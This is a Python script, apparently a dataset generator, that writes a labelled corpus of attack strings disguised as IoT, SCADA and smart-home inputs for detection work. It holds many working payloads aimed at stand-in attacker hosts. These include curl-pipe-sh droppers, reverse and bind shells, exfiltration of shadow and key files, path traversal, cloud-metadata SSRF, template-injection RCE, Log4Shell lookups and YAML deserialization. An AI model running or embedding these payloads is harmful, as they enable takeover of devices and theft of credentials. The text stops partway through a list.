#!/usr/bin/env python3
"""Write attacks.jsonl: attacks carried in IoT, industrial and smart-home text.

The benign corpus (make_benign.py) holds what a device management API, a
smart-home hub, a historian/SCADA tag browser, an MQTT console, a firmware
portal and a field-service ticket system receive: device labels, automations
and Node-RED flows, tag paths and OPC UA node ids, MQTT topics and payloads,
alarms, release notes and OTA manifests, register maps, serial console logs,
gateway config and technician notes.  The attacks below wear the same
clothes: a device host name for the "ping" diagnostic with `; curl ... | sh`,
a Wi-Fi SSID that breaks out of an `nmcli` line, an OTA URL that is really an
argument to wget, a firmware download path with `../`, an OTA or webhook URL
pointed at the cloud metadata service, a notification template evaluated by
Jinja2, an automation import with a Python YAML tag, Log4Shell in an MQTT
client id, SQL in a tag browser search, an SSID rendered as HTML in the scan
list, CR/LF in an alarm e-mail subject or an SMS text written to a modem, an
LDAP filter in a technician lookup.  About one value in ten is a plain attack
with no surrounding notation.

Every payload was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.  Attacker
hosts are reserved names and documentation addresses (attacker.example,
*.attacker.example, 203.0.113.0/24, 198.51.100.0/24); internal targets are
the real metadata, loopback, container and RFC 1918 addresses.

Standard library only, deterministic (random.Random(2802)); running the
script twice gives the same bytes.
"""
import base64
import json
import random
import urllib.parse
from pathlib import Path

RNG = random.Random(2802)
OUT = Path(__file__).with_name("attacks.jsonl")
BENIGN = Path(__file__).with_name("benign.jsonl")
MAX_LEN = 1800
SEEN = set()
LITERAL_COUNTS = {}


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def ps_enc(s):
    """PowerShell -EncodedCommand: base64 of UTF-16LE."""
    return base64.b64encode(s.encode("utf-16-le")).decode()


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def take(cat, items, gen, target):
    """Literal (class, value) pairs first, then templated ones until target unique values."""
    out = []
    for cls, v in items:
        assert isinstance(v, str) and 0 < len(v) <= MAX_LEN, (cls, v)
        if v in SEEN:
            raise SystemExit("duplicate literal in %s: %r" % (cat, v))
        SEEN.add(v)
        out.append((cls, v))
    if len(out) > target:
        raise SystemExit("too many literals in %s (%d > %d)" % (cat, len(out), target))
    LITERAL_COUNTS[cat] = len(out)
    tries = 0
    while len(out) < target:
        tries += 1
        if tries > 20000:
            raise SystemExit("template pool too small for %s" % cat)
        cls, v = gen()
        if v in SEEN or len(v) > MAX_LEN:
            continue
        SEEN.add(v)
        out.append((cls, v))
    return out


def hhmm():
    return "%02d:%02d" % (RNG.randint(0, 23), RNG.randint(0, 59))


ATK = ["attacker.example", "203.0.113.66", "198.51.100.23", "exfil.attacker.example", "203.0.113.9", "c2.attacker.example"]
DEV_HOSTS = ["192.168.1.57", "plc2.line3.local", "10.10.3.21", "gw-07", "broker.local", "192.168.50.30", "hub-living"]


# ====================================================================== cmdi
def cmdi():
    lit = [
        ("diag-ping-host-semicolon-curl-sh", "192.168.1.57; curl -s http://attacker.example/gw.sh | sh"),
        ("diag-ping-host-subshell-dropper", "plc2.line3.local$(wget -qO /tmp/.x http://203.0.113.66/x && sh /tmp/.x)"),
        ("diag-traceroute-target-backticks-nc", "`nc 198.51.100.23 4444 -e /bin/sh`.line3.local"),
        ("gateway-ntp-server-newline-telnetd", "pool.ntp.org\nbusybox telnetd -p 2323 -l /bin/sh"),
        ("device-hostname-and-passwd-append", "gw-07 && echo 'svc2:x:0:0::/root:/bin/sh' >> /etc/passwd && echo 'svc2::19000:0:99999:7:::' >> /etc/shadow"),
        ("wifi-ssid-double-quote-breakout", "Werkstatt\" ; telnetd -l /bin/sh -p 2323 ; echo \""),
        ("wifi-psk-single-quote-breakout", "pa55'$(curl -s attacker.example/p|sh)'word"),
        ("modem-apn-quote-reverse-shell", "internet.example\"; sh -i >& /dev/tcp/203.0.113.9/4444 0>&1; echo \""),
        ("serial-port-path-semicolon-exfil", "/dev/ttyS1;cat /etc/shadow>/www/s.txt"),
        ("firmware-filename-subshell", "app-2.4.1$(curl -s attacker.example/f|sh).bin"),
        ("ota-url-wget-semicolon", "https://fw.example.com/gw/3.2.0/gw.bin; wget -O- http://203.0.113.66/m|sh"),
        ("ota-url-wget-argument-post-file", "--post-file=/etc/gw/pki/own/private.key http://exfil.attacker.example/k"),
        ("ota-url-curl-argument-output-init-script", "-o /etc/init.d/S99x http://attacker.example/S99x"),
        ("diag-pcap-filter-tcpdump-argument-postrotate", "-w /tmp/p -W 1 -G 5 -z /data/upload/upd.sh port 1883"),
        ("mqtt-topic-publish-tool-backticks", "home/`id|nc 203.0.113.9 9001`/temp"),
        ("mqtt-payload-relay-script-semicolon", "ON; curl -s http://attacker.example/n | sh"),
        ("nodered-exec-append-payload-pipe", "measure_temp | busybox nc 198.51.100.23 4444 -e sh"),
        ("device-name-logger-subshell", "Kitchen plug $(rm -rf /data/config)"),
        ("gateway-timezone-semicolon-bind-shell", "Europe/Berlin;nc -lp 4444 -e /bin/sh;"),
        ("config-backup-name-backticks", "gw-backup-`curl attacker.example/b|sh`.tar.gz"),
        ("config-restore-tar-argument-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /data/upload/restore.sh"),
        ("log-sync-target-rsync-argument-e", "-e sh /data/upload/x.sh backup@10.0.0.5:/logs"),
        ("remote-support-host-ssh-proxycommand", "-oProxyCommand=sh -c 'curl attacker.example/s|sh' support@gw"),
        ("modbus-poll-host-and-bot", "10.10.3.21 && busybox wget http://203.0.113.66/bot -O /tmp/b && chmod +x /tmp/b && /tmp/b"),
        ("can-interface-name-semicolon-flush-firewall", "can0 up; iptables -F; iptables -P INPUT ACCEPT;"),
        ("can-bitrate-newline-exfil", "250000\nsh -c 'cat /etc/shadow | nc 203.0.113.9 80'"),
        ("vpn-remote-field-openvpn-up-script", "vpn.example.net 1194\nscript-security 2\nup \"/bin/sh -c 'curl attacker.example/v|sh'\""),
        ("gateway-cron-schedule-newline-extra-job", "*/5 * * * *\n* * * * * root curl -s http://c2.attacker.example/t | sh"),
        ("scene-schedule-cron-inline-command", "0 22 * * * /bin/busybox nc 203.0.113.9 4444 -e /bin/sh #"),
        ("openwrt-uci-value-single-quote-breakout", "internet.example'; /bin/sh -c 'wget -qO- attacker.example/o|sh'; echo '"),
        ("modem-at-command-shell-quote-breakout", "AT+CSQ\"; cat /etc/gw/secrets.toml > /dev/tcp/203.0.113.9/80; echo \""),
        ("wifi-scan-interface-pipe", "wlan0 | sh -c 'id > /www/i.txt'"),
        ("network-interface-name-semicolon+ifs", "eth1;wget${IFS}http://203.0.113.66/i${IFS}-O${IFS}/tmp/i;sh${IFS}/tmp/i"),
        ("diag-ping-host-printf-hex+printf-hex", "1.1.1.1;$(printf '\\x63\\x75\\x72\\x6c') -s attacker.example/p|sh"),
        ("firmware-version-echo-base64-pipe+base64", "2.4.1;echo " + b64("curl -s http://attacker.example/v|sh") + "|base64 -d|sh"),
        ("device-label-variable-split+var-split", "lamp;a=cu;b=rl;$a$b -s attacker.example/q|sh"),
        ("ntp-server-quote-split+quote-split", "pool.ntp.org;w'g'e\"t\" -qO- 198.51.100.23/w|s\\h"),
        ("mqtt-broker-host-brace-expansion+brace", "broker.local;{curl,-s,http://attacker.example/br}|sh"),
        ("diag-ping-host-url-encoded+url", q("8.8.8.8; cat /etc/shadow | nc 203.0.113.9 4444")),
        ("diag-nslookup-host-newline+url", "broker.local%0acurl%20-s%20attacker.example%2Fn%7Csh"),
        ("diag-ping-host-double-url+double-url", q(q("10.0.0.1;id;uname -a"))),
        ("scada-report-name-windows-ampersand-iex", "daily_report & powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/r.ps1')\""),
        ("historian-export-path-windows-pipe-net-user", "C:\\Exports\\line3.csv | net user scadaadm FAKE-Pass-1 /add & net localgroup administrators scadaadm /add"),
        ("scada-backup-name-caret-certutil+caret", "backup & c^e^r^t^u^t^i^l -urlcache -split -f http://203.0.113.66/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
        ("hmi-print-job-powershell-enc+base64", "report.pdf & powershell -enc " + ps_enc("iwr http://attacker.example/h.ps1 -UseBasicParsing | iex")),
        ("gateway-cgi-user-agent-shellshock", "() { :; }; /bin/busybox wget -qO- http://203.0.113.66/ss | /bin/sh"),
        ("log-filter-pattern-awk-system", "ERROR/ {system(\"wget -qO- attacker.example/k|sh\")} /x"),
        ("log-filter-pattern-sed-e-command", "x/e curl -s attacker.example/e|sh\n/x"),
        ("sd-card-search-find-argument-exec", "*.log -exec sh -c 'curl -T {} http://exfil.attacker.example/' ;"),
        ("device-name-newline-command", "Pump #3\nwget -qO- http://c2.attacker.example/p | sh"),
        ("edge-app-image-docker-argument-privileged", "--privileged -v /:/host alpine chroot /host sh -c 'curl attacker.example/d|sh'"),
        ("wifi-ssid-nmcli-backticks-telnetd", "IoT-Net`busybox telnetd -p 23 -l sh`"),
        ("nodered-project-repo-ext-transport", "ext::sh -c touch% /tmp/flow_repo_owned"),
        ("device-cert-common-name-subshell", "gw-07.example.net/O=$(curl -s attacker.example/c|sh)"),
        ("diag-ping-count-semicolon-exfil-creds", "3; cat /data/node-red/flows_cred.json | nc 203.0.113.9 9001"),
        ("floorplan-upload-filename-semicolon", "ground_floor;curl attacker.example/u|sh;.svg"),
        ("log-bundle-name-zip-argument-tt", "logs.zip -T -TT 'sh -c \"curl attacker.example/z|sh\"'"),
        ("device-label-russian-subshell", "Насос №3 $(curl -s http://attacker.example/r | sh)"),
        ("device-label-japanese-semicolon", "冷蔵庫２; nc 198.51.100.23 4444 -e /bin/sh"),
        ("fleet-target-group-ansible-argument", "gateways -m shell -a 'curl attacker.example/an|sh'"),
        ("service-restart-unit-name-semicolon-suid", "gw-agent.service; chmod u+s /bin/busybox"),
        ("log-viewer-unit-backticks", "mosquitto`wget -qO- 203.0.113.66/j|sh`"),
        ("diag-ping-host-or-chain", "no.such.host.invalid || busybox nc 203.0.113.9 4444 -e /bin/ash"),
        ("modbus-unit-id-ampersand-background", "17 & sh -c 'cat /etc/gw/gw.toml > /dev/tcp/198.51.100.23/80' &"),
        ("api-json-host-semicolon", '{"cmd":"ping","host":"10.10.3.21;curl -s attacker.example/j|sh","count":3}'),
        ("automation-shell-template-var-python-pty", "hello && python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
        ("tts-message-espeak-backticks", "Dinner is ready `curl -s attacker.example/t|sh`"),
        ("camera-rtsp-url-ffmpeg-semicolon", "rtsp://192.168.1.80:554/stream1; curl -s attacker.example/cam|sh"),
        ("diag-iperf-server-dns-exfil-subshell", "$(cat /etc/shadow|base64|tr -d '\\n'|cut -c1-60).x.attacker.example"),
        ("plain-semicolon-reverse-shell", "; bash -c 'bash -i >& /dev/tcp/203.0.113.9/8443 0>&1'"),
        ("plain-pipe-id", "| id"),
        ("plain-backtick-sleep", "`sleep 20`"),
        ("plain-subshell-uname", "$(uname -a)"),
        ("plain-and-cat-passwd", "&& cat /etc/passwd"),
        ("plain-newline-wget", "\nwget http://198.51.100.23/x -O /tmp/x; sh /tmp/x\n"),
        ("plain-or-nc", "|| nc -e /bin/sh 203.0.113.66 9001"),
        ("plain-windows-ampersand-whoami", "& whoami /all"),
    ]
    seps = [";", "&&", "||", "|", "\n"]
    cmds = ["curl -s http://%s/%s | sh", "wget -qO- http://%s/%s | sh", "nc %s 4444 -e /bin/sh", "busybox wget -O /tmp/.u http://%s/%s"]
    ctx = [("diag-ping-host", DEV_HOSTS), ("gateway-ntp-server", ["pool.ntp.org", "192.168.10.1", "time.example.net"]),
           ("mqtt-broker-host", ["broker.local", "192.168.50.1", "mqtt.example.net"])]

    def gen():
        name, vals = pick(ctx)
        c = pick(cmds)
        c = c % ((pick(ATK), "".join(pick("abcdefxyz") for _ in range(2))) if c.count("%s") == 2 else (pick(ATK),))
        sep = pick(seps)
        tech = {";": "semicolon", "&&": "and", "||": "or", "|": "pipe", "\n": "newline"}[sep]
        return "%s-%s-chain" % (name, tech), "%s%s%s" % (pick(vals), sep if sep == "\n" else " " + sep + " ", c)
    return take("cmdi", lit, gen, 78)


# ====================================================================== traversal
def traversal():
    lit = [
        ("firmware-download-path-dotdot-shadow", "esp32/2.4.1/../../../../../etc/shadow"),
        ("log-viewer-file-dotdot-mosquitto-passwd", "../../../etc/mosquitto/passwd"),
        ("log-viewer-file-dotdot-nm-wifi-psk", "../../../etc/NetworkManager/system-connections/Werkstatt-IoT.nmconnection"),
        ("log-viewer-file-dotdot-wpa-supplicant", "gw/../../../etc/wpa_supplicant/wpa_supplicant.conf"),
        ("nodered-static-file-dotdot-flows-cred", "../../data/flows_cred.json"),
        ("nodered-static-file-settings-js+url", "..%2f..%2f..%2fdata%2fsettings.js"),
        ("hub-media-path-dotdot-secrets-yaml", "local/../../config/secrets.yaml"),
        ("hub-backup-download-dotdot-auth-store", "../../config/.storage/auth"),
        ("gateway-cert-download-dotdot-private-key", "certs/../../etc/gw/pki/own/private/key.pem"),
        ("sd-card-browser-absolute-shadow", "/etc/shadow"),
        ("sd-card-browser-absolute-proc-environ", "/proc/self/environ"),
        ("sd-card-browser-dotdot-proc-cmdline", "../../../../proc/self/cmdline"),
        ("historian-export-filename-windows-dotdot-ini", "..\\..\\..\\ProgramData\\Historian\\config\\historian.ini"),
        ("historian-export-filename-windows-win-ini", "..\\..\\..\\..\\Windows\\win.ini"),
        ("scada-project-file-windows-web-config", "..\\..\\inetpub\\wwwroot\\web.config"),
        ("ota-manifest-artifact-file-dotdot-cron", '{"board":"rpi-cm4","file":"../../../../etc/cron.d/gw-update","sha256":"00000000000000000000000000000000000000000000000000000000000000ff"}'),
        ("config-restore-archive-entry-zip-slip-cron", "../../../../etc/cron.d/gw-maint"),
        ("config-restore-archive-entry-authorized-keys", "../../../root/.ssh/authorized_keys"),
        ("config-restore-archive-entry-init-script", "data/../../etc/init.d/S99support"),
        ("floorplan-upload-name-dotdot-cgi", "../../../www/cgi-bin/floor.cgi"),
        ("translation-lang-param-dotdot+null", "../../../../etc/passwd%00.json"),
        ("dashboard-theme-css-dotdot-gw-toml", "dark/../../../../etc/gw/gw.toml"),
        ("mqtt-persistence-file-dotdot-mosquitto-db", "../../var/lib/mosquitto/mosquitto.db"),
        ("modbus-map-file-dotdot+double-url", "maps%252f..%252f..%252f..%252fetc%252fshadow"),
        ("register-map-include-directive-dotdot", "include: ../../../etc/gw/secrets.toml"),
        ("firmware-download-nested-strip+nested", "....//....//....//etc/shadow"),
        ("log-viewer-file-overlong-utf8+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        ("log-viewer-file-encoded-backslash+url-backslash", "..%5c..%5c..%5cetc%5cmosquitto%5cpasswd"),
        ("snapshot-image-name-encoded-dots+url-dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hostapd/hostapd.conf"),
        ("snapshot-image-name-mixed-separators+mixed-sep", "..\\/..\\/..\\/etc/ppp/chap-secrets"),
        ("firmware-backup-dotdot-raw-flash-device", "../../../../dev/mtdblock3"),
        ("tag-export-filename-absolute-windows-sam", "C:\\Windows\\System32\\config\\SAM"),
        ("device-icon-path-dotdot-ssh-host-key", "icons/../../../etc/ssh/ssh_host_ed25519_key"),
        ("ota-delta-base-image-dotdot-boot-config", "../../../../boot/config.txt"),
        ("report-template-name-dotdot-env-file", "../../../opt/gw/.env"),
        ("container-volume-backup-dotdot-sa-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("nodered-library-file-dotdot-runtime-config", "functions/../../../../root/.node-red/.config.runtime.json"),
        ("camera-recording-path-dotdot-motion-conf", "2024-06-11/../../../../etc/motion/motion.conf"),
        ("sd-card-browser-dotdot-uboot-env", "../../boot/uboot.env"),
        ("historian-archive-windows-dotdot-scada-users", "..\\..\\..\\ProgramData\\SCADA\\Users\\users.xml"),
        ("zigbee-backup-file-dotdot-network-key", "../zigbee2mqtt/configuration.yaml"),
        ("firmware-build-config-include-secrets", "../secrets.yaml"),
        ("firmware-download-fullwidth-dots+fullwidth", "．．/．．/．．/．．/etc/passwd"),
        ("log-download-prefix-then-dotdot-key", "/var/log/gw/../../../etc/gw/pki/own/private/key.pem"),
        ("modem-log-file-dotdot-pap-secrets", "modem/../../../../etc/ppp/pap-secrets"),
        ("historian-trend-export-dotdot-db-properties+null", "../../../opt/historian/conf/db.properties%00.csv"),
        ("plain-dotdot-etc-passwd", "../../../../../../etc/passwd"),
        ("plain-windows-dotdot-boot-ini", "..\\..\\..\\..\\boot.ini"),
        ("plain-url-encoded-dotdot+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ("plain-absolute-ssh-key", "/root/.ssh/id_rsa"),
        ("plain-dotdot-proc-environ", "../../../../proc/self/environ"),
    ]
    prefixes = ["logs/", "firmware/esp32/", "maps/", "snapshots/", "backups/", "icons/", ""]
    targets = ["etc/shadow", "etc/mosquitto/passwd", "etc/gw/gw.toml", "data/flows_cred.json", "etc/wpa_supplicant/wpa_supplicant.conf",
               "root/.ssh/authorized_keys", "etc/ppp/chap-secrets"]

    def gen():
        n = RNG.randint(3, 8)
        return "file-param-dotdot-depth-%d" % n, pick(prefixes) + "../" * n + pick(targets)
    return take("traversal", lit, gen, 54)


# ====================================================================== ssrf
def ssrf():
    lit = [
        ("ota-manifest-url-aws-metadata-iam", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("ota-firmware-url-aws-user-data", "http://169.254.169.254/latest/user-data"),
        ("webhook-url-gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
        ("automation-webhook-json-gcp-with-header", '{"url":"http://metadata.google.internal/computeMetadata/v1/project/attributes/?recursive=true","method":"GET","headers":{"Metadata-Flavor":"Google"}}'),
        ("rest-sensor-resource-azure-imds-token", '{"resource":"http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/","headers":{"Metadata":"true"},"value_template":"{{ value_json.access_token }}"}'),
        ("camera-snapshot-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("device-icon-url-ecs-task-credentials", "http://169.254.170.2/v2/credentials/"),
        ("weather-api-url-kubelet-pods", "https://10.0.0.12:10250/pods"),
        ("nodered-http-request-url-k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
        ("ota-url-docker-api-containers", "http://127.0.0.1:2375/containers/json?all=1"),
        ("integration-url-docker-unix-socket", "http://unix:/var/run/docker.sock:/containers/json"),
        ("mqtt-bridge-address-gopher-redis-cron", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%2Fr%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%2Fcrontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
        ("firmware-url-file-scheme-private-key", "file:///etc/gw/pki/own/private/key.pem"),
        ("firmware-url-file-scheme-wifi-config", "file:///etc/wpa_supplicant/wpa_supplicant.conf"),
        ("camera-url-dict-memcached-stats", "dict://127.0.0.1:11211/stats"),
        ("webhook-url-nodered-admin-flows", "http://127.0.0.1:1880/flows"),
        ("historian-datasource-url-actuator-env", "http://127.0.0.1:8080/actuator/env"),
        ("historian-datasource-url-actuator-heapdump", "http://localhost:8081/actuator/heapdump"),
        ("ota-url-consul-kv-recurse", "http://127.0.0.1:8500/v1/kv/?recurse"),
        ("ota-url-etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
        ("ota-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
        ("webhook-url-metadata+hex-ip", "http://0xa9fea9fe/latest/meta-data/iam/security-credentials/"),
        ("webhook-url-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
        ("camera-url-metadata+ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
        ("camera-url-loopback-nodered+short-ip", "http://127.1:1880/flows"),
        ("device-callback-url-docker-info+zero-ip", "http://0:2375/info"),
        ("icon-url-userinfo-parser-confusion", "http://fw.example.com@169.254.169.254/latest/meta-data/"),
        ("icon-url-backslash-parser-confusion", "http://169.254.169.254\\@fw.example.com/latest/meta-data/"),
        ("ota-url-open-redirect-to-metadata", "https://fw.example.com/redirect?to=http://169.254.169.254/latest/meta-data/iam/"),
        ("ota-url-dns-rebinding-host", "http://a9fea9fe.c0a83201.rbndr.attacker.example/latest/meta-data/"),
        ("nodered-http-request-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20gw%0D%0AMAIL%20FROM%3A%3Calarm%40plant1.example%3E%0D%0ARCPT%20TO%3A%3Cop%40attacker.example%3E%0D%0ADATA%0D%0ASubject%3A%20x%0D%0A%0D%0Adump%0D%0A.%0D%0AQUIT%0D%0A"),
        ("scada-report-path-unc-ntlm-capture", "\\\\203.0.113.9\\share\\report.xlsx"),
        ("integration-url-router-config-backup", "http://192.168.1.1/cgi-bin/backup.cgi?download=config"),
        ("weather-url-metadata+url-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
        ("ota-webhook-json-oci-metadata", '{"url":"http://169.254.169.254/opc/v2/instance/","headers":{"Authorization":"Bearer Oracle"}}'),
        ("webhook-url-digitalocean-metadata", "http://169.254.169.254/metadata/v1.json"),
        ("ota-url-azure-wireserver", "http://168.63.129.16/machine?comp=goalstate"),
        ("nodered-http-request-elasticsearch-dump", "http://elasticsearch:9200/_all/_search?size=100"),
        ("rest-sensor-url-influx-debug-vars", "http://influxdb:8086/debug/vars"),
        ("ota-url-rabbitmq-definitions-default-creds", "http://guest:guest@127.0.0.1:15672/api/definitions"),
        ("webhook-url-prometheus-admin-delete", "http://prometheus:9090/api/v1/admin/tsdb/delete_series?match[]={__name__=~\".+\"}"),
        ("lorawan-integration-url-k8s-api-ip", "https://10.96.0.1:443/api/v1/namespaces/default/pods"),
        ("mqtt-bridge-http-aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
        ("voice-skill-callback-gopher-memcached-set", "gopher://127.0.0.1:11211/_set%20session%3Aadmin%200%200%205%0D%0Aadmin%0D%0A"),
        ("ota-url-attacker-redirect-to-metadata", "http://203.0.113.66/302?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
        ("ota-url-localhost-port-probe-ssh", "http://127.0.0.1:22/"),
        ("webhook-url-gcp-trailing-dot-v1beta1", "http://metadata.google.internal./computeMetadata/v1beta1/instance/service-accounts/default/token"),
        ("plain-aws-metadata", "http://169.254.169.254/latest/meta-data/"),
        ("plain-localhost-admin", "http://localhost/admin"),
        ("plain-file-passwd", "file:///etc/passwd"),
        ("plain-gopher-redis-flushall", "gopher://127.0.0.1:6379/_FLUSHALL%0D%0A"),
        ("plain-internal-router", "http://192.168.0.1/"),
    ]
    hosts = ["127.0.0.1", "localhost", "169.254.169.254", "10.0.0.1", "192.168.1.1", "172.17.0.1", "[::1]"]
    paths = ["/latest/meta-data/", ":1880/flows", ":8086/debug/vars", ":2375/version", ":9090/api/v1/status/config", ":8500/v1/agent/self"]

    def gen():
        return "ota-url-internal-target", "http://%s%s" % (pick(hosts), pick(paths))
    return take("ssrf", lit, gen, 54)


# ====================================================================== code
def code():
    pickle0 = "cos\nsystem\n(S'curl -s attacker.example/pk|sh'\ntR."
    pickle1 = b"cposix\nsystem\n(S'wget -qO- 203.0.113.66/pc|sh'\ntR."
    lit = [
        ("notify-message-jinja-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("automation-template-jinja-lipsum-popen", "Freezer {{ lipsum.__globals__['os'].popen('cat /config/secrets.yaml').read() }} °C"),
        ("alarm-text-jinja-subclasses-popen-loop", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['sh','-c','curl attacker.example/j|sh']) }}{% endif %}{% endfor %}"),
        ("dashboard-card-jinja-config-dump", "{{ config.items() }}"),
        ("notify-title-jinja-attr+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
        ("scene-name-jinja-namespace-globals-system", "{{ namespace.__init__.__globals__.os.system('busybox telnetd -p 2323 -l sh') }}"),
        ("alert-body-jinja-request-application-import", "{{ request.application.__globals__.__builtins__.__import__('os').popen('env').read() }}"),
        ("mqtt-value-template-jinja-joiner-open", "{{ joiner.__init__.__globals__.__builtins__.open('/etc/gw/gw.toml').read() }}"),
        ("mqtt-value-template-jinja-context-cycler", "{{ value_json.temp }}{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("notification-template-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('cat /data/flows_cred.json')\")() }}"),
        ("report-template-ejs-scriptlet", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
        ("label-template-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('curl attacker.example/pug|sh')}"),
        ("scaling-expression-js-vm-escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
        ("rule-condition-js-eval-function-require", "value > 30 || Function('return process')().mainModule.require('fs').readFileSync('/etc/shadow','utf8')"),
        ("scaling-expression-js+js-unicode", "this['constructor']['constructor']('\\u0072eturn process')().mainModule['\\u0072equire']('child_process').execSync('id')"),
        ("tag-scaling-formula-python-eval-import", "__import__('os').popen('cat /etc/gw/secrets.toml').read()"),
        ("tag-scaling-formula-python-eval-catch-warnings", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
        ("derived-tag-expression-python-eval-conditional", "{Line3/Flow} * 1 if __import__('os').system('curl attacker.example/e|sh') else 0"),
        ("alarm-text-python-format-globals", "{alarm.__init__.__globals__[CONFIG][SECRET_KEY]}"),
        ("gateway-lua-converter-os-execute", "return os.execute('wget -qO- http://attacker.example/l | sh')"),
        ("gateway-lua-converter-io-popen", "local f = io.popen('cat /etc/shadow'); return f:read('*a')"),
        ("historian-alarm-expression-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/sp')}"),
        ("historian-filter-spel-processbuilder", "new java.lang.ProcessBuilder({'sh','-c','curl attacker.example/pb|sh'}).start()"),
        ("scada-web-param-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
        ("alarm-email-template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"cat /opt/historian/conf/db.properties\")}"),
        ("report-template-velocity-class-forname", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
        ("device-label-java-el-runtime", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('touch /tmp/el')}"),
        ("rule-engine-mvel-runtime", "Runtime.getRuntime().exec(\"curl http://attacker.example/mvel\")"),
        ("rule-engine-jexl-class-forname", "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"),
        ("rule-chain-groovy-string-execute", "def out = 'cat /etc/passwd'.execute().text; return out"),
        ("alarm-page-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
        ("php-dashboard-twig-filter-system", "{{ ['id']|filter('system') }}"),
        ("php-dashboard-smarty-system", "{system('cat /var/www/dashboard/config.php')}"),
        ("ruby-report-erb-backticks", "<%= `cat /etc/shadow` %>"),
        ("alert-template-mako-import-os", "<% import os %>${os.popen('id').read()}"),
        ("alert-template-tornado-import", "{% import os %}{{ os.popen('uname -a').read() }}"),
        ("fleet-vars-ansible-lookup-pipe", "{{ lookup('pipe', 'cat /etc/ansible/vault_pass.txt') }}"),
        ("gateway-go-template-context-dump", "{{ printf \"%#v\" . }}"),
        ("nodered-flow-import-function-child-process", '[{"id":"a1","type":"function","name":"x","func":"const p = this.constructor.constructor(\'return process\')(); p.mainModule.require(\'child_process\').exec(\'curl attacker.example/fn|sh\'); return msg;","wires":[]}]'),
        ("mqtt-client-id-log4shell-ldap", "${jndi:ldap://203.0.113.9:1389/gw}"),
        ("device-user-agent-log4shell-dns-env", "ESP32-HTTP/1.0 ${jndi:dns://${env:HOSTNAME}.attacker.example/a}"),
        ("opcua-client-name-log4shell-rmi", "UaExpert ${jndi:rmi://198.51.100.23:1099/Obj}"),
        ("alarm-comment-log4shell+lower-nesting", "ack ${${lower:j}ndi:${lower:l}dap://attacker.example/ack}"),
        ("device-serial-log4shell+default-value-nesting", "${${::-j}${::-n}${::-d}${::-i}:ldap://c2.attacker.example/s}"),
        ("mqtt-username-log4shell+env-default-nesting", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldaps://attacker.example/u}"),
        ("firmware-version-log4shell-sys-exfil", "2.4.1-${jndi:ldap://${sys:java.version}.attacker.example/v}"),
        ("historian-tag-name-log4shell+upper-nesting", "Line3/${${upper:j}ndi:ldap://203.0.113.66/t}"),
        ("device-query-log4shell+url", q("${jndi:ldap://attacker.example/q}")),
        ("automation-import-pyyaml-apply-system", "alias: Morning\ntrigger: !!python/object/apply:os.system ['curl -s http://attacker.example/y | sh']"),
        ("blueprint-upload-pyyaml-new-popen", "blueprint:\n  name: x\n  input: !!python/object/new:subprocess.Popen [['sh', '-c', 'id > /tmp/bp']]"),
